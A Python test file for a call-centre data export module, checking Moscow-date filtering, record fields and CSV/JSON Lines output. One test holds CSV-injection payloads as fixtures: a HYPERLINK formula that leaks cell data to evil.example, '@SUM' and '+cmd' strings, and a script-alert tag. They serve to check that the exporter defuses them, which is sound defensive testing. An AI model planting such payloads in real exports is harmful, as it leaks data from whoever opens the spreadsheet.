"""Exports for administrators and monthly reports: local-date bounds, CSV safety, JSON Lines."""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import event
from sqlalchemy.engine import Engine
from sqlmodel import Session

from models.exports import EXPORT_FIELDS, ExportKind, export_rows, write_csv, write_jsonl
from models.rules.callbacks import CallbackStatus
from models.rules.missed import CallOutcome, MissedReason
from models.rules.survey import AnswerReceived, QualityRating
from models.tables import (
    AttemptResult,
    Call,
    CallbackAttempt,
    CallbackSource,
    CallbackTask,
    CallbackWindow,
    Department,
    Employee,
    HangupSide,
    SurveyResponse,
)
from models.topics import Topic

MSK = ZoneInfo("Europe/Moscow")
NOW = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)


@pytest.fixture
def session(db_engine: Engine) -> Iterator[Session]:
    with Session(db_engine) as session:
        yield session


def _msk(year: int, month: int, day: int, hour: int, minute: int, second: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, second, tzinfo=MSK)


def _operator(session: Session, number: str = "201", name: str = "Алиева Патимат") -> Employee:
    department = Department(code=f"dep-{number}", name="Отдел консультаций")
    session.add(department)
    session.flush()
    assert department.id is not None
    employee = Employee(
        internal_number=number,
        full_name=name,
        device=f"PJSIP/{number}",
        department_id=department.id,
        updated_at=NOW,
    )
    session.add(employee)
    session.flush()
    return employee


def _call(session: Session, linkedid: str, arrived_at: datetime, **fields: Any) -> Call:
    call = Call(linkedid=linkedid, arrived_at=arrived_at, in_working_hours=True, **fields)
    session.add(call)
    session.flush()
    return call


def _linkedids(rows: Iterator[dict[str, object]]) -> list[object]:
    return [row["linkedid"] for row in rows]


def test_calls_export_uses_inclusive_local_dates(session: Session) -> None:
    # C3: the line's days are Moscow days; 23:30 MSK on 31 October is 20:30 UTC, in October.
    _call(session, "sep-last", _msk(2026, 9, 30, 23, 59, 59))
    _call(session, "oct-first", _msk(2026, 10, 1, 0, 0))
    _call(session, "oct-last", _msk(2026, 10, 31, 23, 30))
    _call(session, "nov-first", _msk(2026, 11, 1, 0, 10))

    rows = list(
        export_rows(
            session=session,
            kind=ExportKind.CALLS,
            since=date(2026, 10, 1),
            until=date(2026, 10, 31),
            tz=MSK,
        )
    )

    assert [row["linkedid"] for row in rows] == ["oct-first", "oct-last"]
    assert rows[1]["arrived_at"] == "2026-10-31T23:30:00+03:00"


def test_calls_export_open_bounds_and_order_by_instant_then_id(session: Session) -> None:
    same = _msk(2026, 10, 5, 9, 12, 3)
    _call(session, "b-later", _msk(2026, 10, 6, 10, 0))
    _call(session, "a-first", same)
    _call(session, "c-same-instant", same)

    everything = export_rows(session=session, kind=ExportKind.CALLS, since=None, until=None, tz=MSK)
    from_sixth = export_rows(
        session=session, kind=ExportKind.CALLS, since=date(2026, 10, 6), until=None, tz=MSK
    )
    to_fifth = export_rows(
        session=session, kind=ExportKind.CALLS, since=None, until=date(2026, 10, 5), tz=MSK
    )

    assert _linkedids(everything) == ["a-first", "c-same-instant", "b-later"]
    assert _linkedids(from_sixth) == ["b-later"]
    assert _linkedids(to_fifth) == ["a-first", "c-same-instant"]


def test_a_spoken_questions_confidence_that_is_no_number_is_exported_as_none(
    session: Session,
) -> None:
    # PostgreSQL keeps a NaN (SQLite makes it NULL): JSON Lines must stay JSON
    _call(
        session,
        "nan",
        _msk(2026, 10, 5, 9, 0),
        spoken_question="да",
        spoken_question_confidence=math.nan,
    )
    (row,) = export_rows(session=session, kind=ExportKind.CALLS, since=None, until=None, tz=MSK)
    assert (row["spoken_question"], row["spoken_question_confidence"]) == ("да", None)
    out = io.StringIO()
    write_jsonl([row], out)
    assert json.loads(out.getvalue(), parse_constant=_no_constant)["spoken_question"] == "да"


def _no_constant(name: str) -> object:
    raise AssertionError(f"{name} is not JSON")


def test_export_refuses_since_after_until(session: Session) -> None:
    with pytest.raises(ValueError, match="позже"):
        export_rows(
            session=session,
            kind=ExportKind.CALLS,
            since=date(2026, 11, 1),
            until=date(2026, 10, 31),
            tz=MSK,
        )


def test_call_record_fields(session: Session) -> None:
    operator = _operator(session)
    arrived = _msk(2026, 10, 5, 9, 12, 3)
    _call(
        session,
        "1791000000.1",
        arrived,
        caller_number="89280000001",
        caller_e164="+79280000001",
        caller_name="Магомед",
        topic=Topic.SUPPORT_MEASURES,
        ivr_path="ru>2",
        queue_wait_s=12.5,
        operator_id=operator.id,
        transfer_count=1,
        answered_at=_msk(2026, 10, 5, 9, 12, 40),
        ended_at=_msk(2026, 10, 5, 9, 20, 0),
        talk_s=440.0,
        outcome=CallOutcome.ANSWERED,
        hangup_side=HangupSide.CALLER,
        hangup_cause=16,
        spoken_question="как получить субсидию на оборудование",
        spoken_question_confidence=0.87,
    )
    # Still in progress, caller ID withheld: text fields empty, instants and numbers null.
    _call(session, "1791000000.2", _msk(2026, 10, 5, 9, 13), caller_number="anonymous")
    _call(
        session,
        "1791000000.3",
        _msk(2026, 10, 5, 9, 14),
        caller_number="89880000002",
        caller_e164="+79880000002",
        ended_at=_msk(2026, 10, 5, 9, 14, 3),
        outcome=CallOutcome.MISSED,
        missed_reason=MissedReason.ABANDONED_IN_QUEUE,
        short_call=True,
    )

    answered, live, missed = export_rows(
        session=session, kind=ExportKind.CALLS, since=None, until=None, tz=MSK
    )

    assert tuple(answered) == EXPORT_FIELDS[ExportKind.CALLS]
    assert answered == {
        "linkedid": "1791000000.1",
        "caller": "+79280000001",
        "caller_name": "Магомед",
        "arrived_at": "2026-10-05T09:12:03+03:00",
        "in_working_hours": True,
        "topic": "support_measures",
        "ivr_path": "ru>2",
        "queue_wait_s": 12.5,
        "operator": "201",
        "operator_name": "Алиева Патимат",
        "transfers": 1,
        "answered_at": "2026-10-05T09:12:40+03:00",
        "ended_at": "2026-10-05T09:20:00+03:00",
        "talk_s": 440.0,
        "outcome": "answered",
        "missed_reason": "",
        "short_call": False,
        "hangup_side": "caller",
        "hangup_cause": 16,
        # G3: what the caller said is part of the call's record
        "spoken_question": "как получить субсидию на оборудование",
        "spoken_question_confidence": 0.87,
    }
    assert (live["spoken_question"], live["spoken_question_confidence"]) == ("", None)
    assert live["caller"] == "anonymous"
    assert live["outcome"] == ""
    assert live["operator"] == ""
    assert live["answered_at"] is None
    assert live["queue_wait_s"] is None
    assert (missed["outcome"], missed["missed_reason"], missed["short_call"]) == (
        "missed",
        "abandoned_in_queue",
        True,
    )


def _task(session: Session, requested_at: datetime, **fields: Any) -> CallbackTask:
    defaults: dict[str, Any] = {
        "phone_e164": "+79280000001",
        "source": CallbackSource.OPERATOR,
        "promised_on": date(2026, 10, 7),
    }
    task = CallbackTask(requested_at=requested_at, **(defaults | fields))
    session.add(task)
    session.flush()
    return task


def test_callback_record_fields(session: Session) -> None:
    owner = _operator(session, "202", "Гаджиев Руслан")
    origin = _call(session, "1791000000.9", _msk(2026, 10, 5, 10, 0))
    task = _task(
        session,
        _msk(2026, 10, 5, 10, 5),
        question="Сроки выдачи лицензии на розничную продажу алкоголя?",
        topic=Topic.STATE_SERVICES,
        origin_call_id=origin.id,
        owner_id=owner.id,
        status=CallbackStatus.IN_PROGRESS,
    )
    assert task.id is not None
    session.add_all(
        [
            # Inserted out of order: the export sorts windows and attempts itself.
            CallbackWindow(
                task_id=task.id,
                starts_at=_msk(2026, 10, 7, 14, 0),
                ends_at=_msk(2026, 10, 7, 16, 0),
            ),
            CallbackWindow(
                task_id=task.id,
                starts_at=_msk(2026, 10, 6, 10, 0),
                ends_at=_msk(2026, 10, 6, 12, 0),
            ),
            CallbackAttempt(
                task_id=task.id, at=_msk(2026, 10, 6, 11, 0), result=AttemptResult.BUSY
            ),
            CallbackAttempt(
                task_id=task.id, at=_msk(2026, 10, 6, 10, 5), result=AttemptResult.NO_ANSWER
            ),
        ]
    )
    _task(session, _msk(2026, 10, 5, 19, 30), source=CallbackSource.AFTER_HOURS)
    session.flush()

    first, bare = export_rows(
        session=session, kind=ExportKind.CALLBACKS, since=None, until=None, tz=MSK
    )

    assert tuple(first) == EXPORT_FIELDS[ExportKind.CALLBACKS]
    assert first == {
        "id": task.id,
        "phone": "+79280000001",
        "question": "Сроки выдачи лицензии на розничную продажу алкоголя?",
        "topic": "state_services",
        "source": "operator",
        "requested_at": "2026-10-05T10:05:00+03:00",
        "promised_on": "2026-10-07",
        "windows": "2026-10-06 10:00-12:00;2026-10-07 14:00-16:00",
        "owner": "202",
        "owner_name": "Гаджиев Руслан",
        "status": "in_progress",
        "closed_at": None,
        "attempts": 2,
        "last_attempt_at": "2026-10-06T11:00:00+03:00",
        "last_attempt_result": "busy",
        "origin_call": "1791000000.9",
    }
    assert (bare["windows"], bare["attempts"], bare["owner"], bare["origin_call"]) == (
        "",
        0,
        "",
        "",
    )
    assert bare["last_attempt_at"] is None
    assert bare["last_attempt_result"] == ""


def test_callback_export_query_count_does_not_grow_with_tasks(
    session: Session, db_engine: Engine
) -> None:
    # No N+1: windows and attempts are loaded per batch, not per task.
    for minute in range(20):
        task = _task(session, _msk(2026, 10, 5, 10, minute))
        assert task.id is not None
        session.add(
            CallbackAttempt(
                task_id=task.id, at=_msk(2026, 10, 6, 10, minute), result=AttemptResult.ANSWERED
            )
        )
    session.flush()
    statements: list[str] = []

    def count(*args: Any) -> None:
        statements.append(args[2])

    event.listen(db_engine, "before_cursor_execute", count)
    try:
        rows = list(
            export_rows(session=session, kind=ExportKind.CALLBACKS, since=None, until=None, tz=MSK)
        )
    finally:
        event.remove(db_engine, "before_cursor_execute", count)

    assert len(rows) == 20
    assert all(row["attempts"] == 1 for row in rows)
    assert len(statements) <= 3


def test_survey_record_fields(session: Session) -> None:
    operator = _operator(session)
    complete_call = _call(session, "1791000001.1", _msk(2026, 10, 5, 9, 0))
    partial_call = _call(session, "1791000001.2", _msk(2026, 10, 5, 9, 30))
    assert complete_call.id is not None
    assert partial_call.id is not None
    session.add_all(
        [
            SurveyResponse(
                call_id=complete_call.id,
                operator_id=operator.id,
                answer_received=AnswerReceived.YES,
                quality=QualityRating.PARTLY_SATISFIED,
                created_at=_msk(2026, 10, 5, 9, 10),
            ),
            # C15: the caller hung up after the first question.
            SurveyResponse(
                call_id=partial_call.id,
                answer_received=AnswerReceived.NO,
                created_at=_msk(2026, 10, 5, 9, 40),
            ),
        ]
    )
    session.flush()

    complete, partial = export_rows(
        session=session, kind=ExportKind.SURVEYS, since=None, until=None, tz=MSK
    )

    assert tuple(complete) == EXPORT_FIELDS[ExportKind.SURVEYS]
    assert complete == {
        "call": "1791000001.1",
        "arrived_at": "2026-10-05T09:00:00+03:00",
        "operator": "201",
        "operator_name": "Алиева Патимат",
        "answer_received": "yes",
        "quality": "partly_satisfied",
        "channel": "keypad",
        "completed": True,
        "created_at": "2026-10-05T09:10:00+03:00",
    }
    assert (partial["operator"], partial["quality"], partial["completed"]) == ("", "", False)


def test_survey_export_filters_on_answer_instant(session: Session) -> None:
    call = _call(session, "1791000002.1", _msk(2026, 10, 31, 23, 50))
    assert call.id is not None
    session.add(
        SurveyResponse(
            call_id=call.id, answer_received=AnswerReceived.YES, created_at=_msk(2026, 11, 1, 0, 5)
        )
    )
    session.flush()

    october = export_rows(
        session=session,
        kind=ExportKind.SURVEYS,
        since=date(2026, 10, 1),
        until=date(2026, 10, 31),
        tz=MSK,
    )
    november = export_rows(
        session=session, kind=ExportKind.SURVEYS, since=date(2026, 11, 1), until=None, tz=MSK
    )

    assert list(october) == []
    assert [row["call"] for row in november] == ["1791000002.1"]


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_header_and_defuses_formulas_from_callers(session: Session) -> None:
    # Caller names and numbers are caller-controlled: a spreadsheet must not run them.
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
    _call(
        session,
        "1791000003.1",
        _msk(2026, 10, 5, 9, 0),
        caller_number="+78722678091",
        caller_e164="+78722678091",
        caller_name=hostile,
    )
    _call(
        session,
        "1791000003.2",
        _msk(2026, 10, 5, 9, 1),
        caller_number="+1+cmd",
        caller_name="@SUM(1+1)",
        ivr_path="-2+3",
    )
    _call(
        session,
        "1791000003.3",
        _msk(2026, 10, 5, 9, 2),
        caller_name="\tTAB",
        spoken_question="=1+1 <script>alert(1)</script>",
        spoken_question_confidence=0.5,
    )
    fields = EXPORT_FIELDS[ExportKind.CALLS]
    out = io.StringIO(newline="")

    count = write_csv(
        fields,
        export_rows(session=session, kind=ExportKind.CALLS, since=None, until=None, tz=MSK),
        out,
    )

    header, *records = _read_csv(out.getvalue())
    assert count == 3
    assert tuple(header) == fields
    by_field = [dict(zip(header, record, strict=True)) for record in records]
    # E.164 in a phone column stays a number people can search for.
    assert by_field[0]["caller"] == "+78722678091"
    assert by_field[0]["caller_name"] == "'" + hostile
    # A raw caller ID that is not E.164 is defused like any other text.
    assert by_field[1]["caller"] == "'+1+cmd"
    assert by_field[1]["caller_name"] == "'@SUM(1+1)"
    assert by_field[1]["ivr_path"] == "'-2+3"
    assert by_field[2]["caller_name"] == "'\tTAB"
    # The spoken question is the caller's words too.
    assert by_field[2]["spoken_question"] == "'=1+1 <script>alert(1)</script>"
    assert by_field[2]["spoken_question_confidence"] == "0.5"
    # Booleans, numbers and nulls keep a plain form.
    assert by_field[0]["in_working_hours"] == "true"
    assert by_field[0]["short_call"] == "false"
    assert by_field[0]["transfers"] == "0"
    assert by_field[0]["answered_at"] == ""


def test_write_csv_only_spares_e164_in_phone_columns() -> None:
    out = io.StringIO(newline="")
    rows = [{"phone": "+79280000001", "question": "+79280000001", "n": -5}]

    write_csv(("phone", "question", "n"), rows, out)

    assert _read_csv(out.getvalue())[1] == ["+79280000001", "'+79280000001", "-5"]


def test_jsonl_round_trips_cyrillic(session: Session) -> None:
    task = _task(
        session,
        _msk(2026, 10, 5, 10, 0),
        question="Как получить субсидию на модернизацию производства? «Ёлки»",
    )
    out = io.StringIO()

    count = write_jsonl(
        export_rows(session=session, kind=ExportKind.CALLBACKS, since=None, until=None, tz=MSK),
        out,
    )

    lines = out.getvalue().splitlines()
    assert count == 1
    assert "субсидию" in lines[0]  # ensure_ascii=False: readable, not \u escapes
    assert json.loads(lines[0])["question"] == task.question
    assert json.loads(lines[0])["id"] == task.id


def test_write_jsonl_writes_dates_and_refuses_unknown_types() -> None:
    out = io.StringIO()

    assert write_jsonl([{"day": date(2026, 10, 5)}, {"n": None}], out) == 2
    assert out.getvalue() == '{"day": "2026-10-05"}\n{"n": null}\n'
    with pytest.raises(TypeError):
        write_jsonl([{"x": object()}], io.StringIO())
